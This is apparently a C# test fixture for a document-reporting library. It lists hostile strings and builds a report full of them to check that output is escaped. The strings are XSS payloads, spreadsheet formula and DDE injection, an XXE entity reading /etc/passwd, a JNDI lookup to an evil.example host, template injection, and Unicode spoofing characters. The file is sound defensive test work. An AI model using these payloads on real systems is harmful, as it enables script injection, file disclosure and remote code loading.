using Spoor.Reporting;
using Spoor.Reporting.Documents;

namespace Spoor.Tests.Reporting.Documents;

/// <summary>Texts as an enemy of the reader would write them, and a document full of them.</summary>
internal static class HostileText
{
    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert(1)</script>", "</style><script>alert(2)</script>", "</title></svg><img src=x onerror=alert(3)>", "\" onmouseover=\"alert(4)", "' onfocus='alert(5)",
        "=HYPERLINK(\"http://evil.example\",\"refund\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "＝1+1", "|pipe|", "%0a",
        "[refund](javascript:alert(6))", "![x](http://evil.example/p.png)", "https://evil.example/refund", "www.evil.example", "mail@evil.example", "<https://evil.example>", "`code` **bold** _it_ # head",
        "# heading", "- item", "1. item", "1) item", "=====", "> quote", "<!-- ", "]]>", "<![CDATA[", "&lt;script&gt;", "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
        "safe\u202Egnp.exe", "zero\u200Bwidth", "\u2066isolate\u2069", "\u0007bell\u0000nul", "line\nbreak\r\n# x", "\uE000private", "\u061Cmark", new string('A', 10_000), "é漢字🦊\u0301",
        "(D:) Tj ET \\) >> endobj", "${jndi:ldap://evil.example}", "{{constructor.constructor('alert(7)')()}}",
    ];

    public static Document Document => new()
    {
        Title = All[0] + All[1] + All[31],
        Subtitle = string.Concat(All),
        Dated = new(2023, 9, 12, 0, 0, 0, TimeSpan.Zero),
        Sections = [new("everything", string.Concat(All.Take(6)), [.. All.SelectMany(Pieces)]) { Parts = [.. All.Select((text, i) => new Section($"part-{i + 1}", text, []))] }],
    };

    private static IEnumerable<Piece> Pieces(string text, int i)
    {
        var drawing = new Drawing(200, 80, text, text);
        drawing.Text("ink", 4, 20, "start", text);
        drawing.Band("flow", 4, (0, 40), (100, 50));
        return
        [
            new Piece.Paragraph(text),
            new Piece.Paragraph(text, new Words.Strong(text), new Words.Code(text), Words.To("everything", text), Words.ToPage("javascript:alert(8)", text), Words.ToPage("https://example.org/\"><script>|", text)),
            new Piece.Warning(text),
            Piece.Points.Of([text, text]),
            new Piece.Grid(new($"table-{i + 1}", text, [text, ">" + text], [new([text, text], $"row-{i + 1}"), new([new Words.Code(text), Words.To($"row-{i + 1}", text)])])),
            new Piece.Picture(new($"figure-{i + 1}", text, drawing)),
        ];
    }
}
